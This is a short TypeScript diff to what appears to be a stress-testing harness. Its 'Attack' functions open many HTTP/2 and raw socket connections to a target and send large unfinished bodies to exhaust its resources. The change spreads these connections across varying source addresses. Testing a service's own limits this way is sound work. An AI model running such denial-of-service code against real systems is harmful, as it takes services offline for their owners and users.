@@ -85,7 +85,7 @@ export const unfinishedCalls: Attack = async (target) => {
   const head = Buffer.from('0000400000', 'hex');
   const most = Buffer.alloc(4 * MIB - 1_000, 1);
   for (let connection = 0; connection < 3; connection++) {
-    const session = connectHttp2(`http://${target.grpc}`, { maxSessionMemory: 1_000 });
+    const session = connectHttp2(`http://${target.grpc}`, { maxSessionMemory: 1_000, ...target.from(connection) });
     session.on('error', () => {});
     target.atEnd(() => session.destroy());
     for (let call = 0; call < 100; call++) {
@@ -106,7 +106,7 @@ export const unfinishedBodies: Attack = async (target) => {
   const { hostname, port } = new URL(target.http);
   const most = Buffer.alloc(4 * MIB - 1_000, ' ');
   for (let n = 0; n < 250; n++) {
-    const socket = connect(Number(port), hostname);
+    const socket = connect({ port: Number(port), host: hostname, ...target.from(n) });
     target.atEnd(() => socket.destroy());
     socket.on('error', () => {});
     socket.on('data', (chunk: Buffer) => tally.add(`HTTP ${chunk.subarray(9, 12).toString()}`));
